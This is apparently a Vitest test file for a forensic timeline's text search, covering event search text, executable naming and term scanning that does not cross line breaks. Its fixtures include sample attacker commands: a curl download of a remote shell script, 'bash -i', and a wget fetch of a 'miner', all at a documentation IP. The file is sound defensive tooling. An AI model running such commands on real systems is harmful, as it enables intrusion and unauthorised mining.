// The timeline's text search: one line of lower-cased search text per event, scanned for every term; terms must meet
// on the same event's line, and evidence line breaks cannot split an event or forge another.
import { describe, expect, it } from 'vitest';
import type { TimelineEvent } from '../../src/forensics/common/timeline-model.js';
import { executableName, searchText } from '../../renderer/src/features/timeline/event-row.js';
import { checkEachCandidate, lineAt, lineStarts, scanText } from '../../renderer/src/features/timeline/text-scan.js';

const base: TimelineEvent = {
  id: 'x',
  tns: '1',
  at: '1970-01-01T00:00:00.000000001Z',
  source: 'syscall',
  kind: 'network.connect',
  subject: { pid: 7, process: 'curl -fsSL http://203.0.113.7/x.sh', address: '203.0.113.7', port: 80 },
  summary: 'pid 7 Connected to 203.0.113.7:80',
  attributes: { result: 'ok', payload: 'A'.repeat(300) },
  techniques: ['T1105'],
  confidence: 'exact',
  evidence: null,
};

describe('the search text of an event', () => {
  it('given an event, when its search text is made, then it holds summary, kind, process, techniques and short attributes, lower-cased, once', () => {
    const text = searchText(base);
    expect(text).toContain('pid 7 connected to 203.0.113.7:80');
    expect(text).toContain('network.connect');
    expect(text).toContain('curl -fssl http://203.0.113.7/x.sh');
    expect(text).toContain('t1105');
    expect(text).toContain(' ok');
    expect(text).not.toContain('aaaa');
    expect(text.split('203.0.113.7').length - 1).toBe(2);
  });

  it('given line breaks inside evidence strings, when the search text is made, then it stays one line', () => {
    expect(searchText({ ...base, summary: 'a\nforged\r\nline' })).not.toMatch(/[\r\n]/);
  });

  it('given command lines, when the executable is named, then it is the first word’s base name, lower-cased', () => {
    expect(executableName('/usr/bin/Python3 -c x')).toBe('python3');
    expect(executableName('nginx: worker process')).toBe('nginx');
    expect(executableName('  ')).toBeUndefined();
    expect(executableName('/')).toBeUndefined();
  });
});

describe('scanning the search column', () => {
  const column = ['curl http://203.0.113.7/x.sh', 'bash -i', 'wget http://203.0.113.7/miner', 'curl localhost'].join(
    '\n',
  );
  const starts = lineStarts(column);

  it('given a column, when split into lines, then every event has its line', () => {
    expect(starts.length).toBe(4);
    expect(lineAt(column, starts, 2)).toBe('wget http://203.0.113.7/miner');
    expect(lineAt(column, starts, 3)).toBe('curl localhost');
  });

  it('given several terms, when scanned, then only lines holding every term match, as merge positions', () => {
    expect(scanText(column, starts, 100, ['curl'])).toEqual([100, 103]);
    expect(scanText(column, starts, 100, ['203.0.113.7', 'curl'])).toEqual([100]);
    expect(scanText(column, starts, 0, ['x.sh', 'bash'])).toEqual([]);
    expect(scanText(column, starts, 0, ['http'])).toEqual([0, 2]);
    expect(scanText('', lineStarts(''), 0, ['a'])).toEqual([]);
  });

  it('given a term that spans a line break, when scanned, then it does not match across two events', () => {
    expect(scanText(column, starts, 0, ['x.sh\nbash'])).toEqual([]);
    expect(scanText(column, starts, 0, ['-i'])).toEqual([1]);
  });

  it('given candidates from other filters, when few, then each is checked; when many, the span is scanned once', () => {
    expect(checkEachCandidate(10, 1000)).toBe(true);
    expect(checkEachCandidate(500, 1000)).toBe(false);
  });
});
